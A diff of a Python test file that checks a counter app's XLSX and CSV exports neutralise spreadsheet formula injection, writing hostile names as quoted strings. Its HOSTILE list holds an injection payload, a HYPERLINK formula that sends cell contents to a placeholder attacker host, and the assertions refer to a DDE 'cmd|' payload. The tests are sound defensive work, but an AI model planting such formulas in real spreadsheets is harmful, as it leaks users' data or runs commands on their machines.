@@ -9,11 +9,10 @@ import zipfile
 from datetime import UTC, datetime
 
 import pytest
-import xlsxwriter
 
 from counter_app.export.csv_file import table_csv
-from counter_app.export.tables import Table, TableName
-from counter_app.export.xlsx_file import _write_sheet
+from counter_app.export.tables import Sheet, Table, TableName
+from counter_app.export.xlsx_file import workbook_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
@@ -57,16 +56,43 @@ def test_csv_ordinary_text_is_unchanged(text: str) -> None:
 
 
 def test_xlsx_writes_hostile_names_as_strings_never_formulas() -> None:
-    buffer = io.BytesIO()
-    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
-    workbook.set_properties({"created": datetime(2026, 1, 1, tzinfo=UTC).replace(tzinfo=None)})
-    bold = workbook.add_format({"bold": True})
-    _write_sheet(workbook, _table(), "periode", bold, bold)
-    workbook.close()
-    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
+    table = _table()
+    data = workbook_xlsx(
+        [Sheet("Ringkasan", [table.title, "periode"], [table])],
+        "periode",
+        datetime(2026, 1, 1, tzinfo=UTC),
+    )
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
         sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
         strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
     assert "<f>" not in sheet and "<f " not in sheet
     assert "HYPERLINK" in strings and "cmd|" in strings
     # Negative numbers are numeric cells (no t="s"), with their value.
     assert re.search(r'<c r="B5"[^>]*><v>-3</v></c>', sheet)
+
+
+def test_xlsx_text_that_starts_a_formula_carries_the_quote_prefix() -> None:
+    from openpyxl import load_workbook
+
+    table = _table()
+    data = workbook_xlsx(
+        [Sheet("=Lembar", ["=Judul", "periode"], [table])],
+        "periode",
+        datetime(2026, 1, 1, tzinfo=UTC),
+    )
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert (sheet["A1"].value, sheet["A1"].quotePrefix, sheet["A1"].font.b) == (
+        "=Judul",
+        True,
+        True,
+    )
+    assert (sheet["A2"].value, sheet["A2"].quotePrefix) == ("periode", False)
+    assert (sheet["A4"].value, sheet["A4"].quotePrefix) == ("=Nama", True)
+    for row, name in enumerate(HOSTILE, start=5):
+        cell = sheet.cell(row, 1)
+        # openpyxl leaves the file's escape of a carriage return as it is.
+        value = str(cell.value).replace("_x000D_", "\r")
+        assert (value, cell.data_type, cell.quotePrefix) == (name, "s", True)
+        assert sheet.cell(row, 2).value == -3  # numbers stay numbers
+    last = sheet.cell(5 + len(HOSTILE), 1)
+    assert (last.value, last.quotePrefix) == ("Loket 1", False)
